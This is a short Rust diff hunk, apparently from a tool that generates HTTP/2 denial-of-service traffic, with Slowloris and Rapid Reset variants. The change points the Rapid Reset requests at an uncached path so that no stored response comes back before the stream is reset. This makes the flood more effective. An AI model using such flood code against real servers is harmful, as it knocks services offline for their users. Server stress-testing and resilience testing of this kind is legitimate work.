@@ -104,7 +104,8 @@ impl Attack {
             Self::Slowloris => bytes.push(b'x'),
             Self::Idle => {}
             Self::RapidReset => {
-                let request = http2::request(path);
+                // What is not stored: an answer from memory would be there before the reset.
+                let request = http2::request(&format!("{path}/none"));
                 for _ in 0..BATCH {
                     let flags = http2::END_STREAM | http2::END_HEADERS;
                     http2::frame(&mut bytes, http2::HEADERS, flags, *stream, &request);
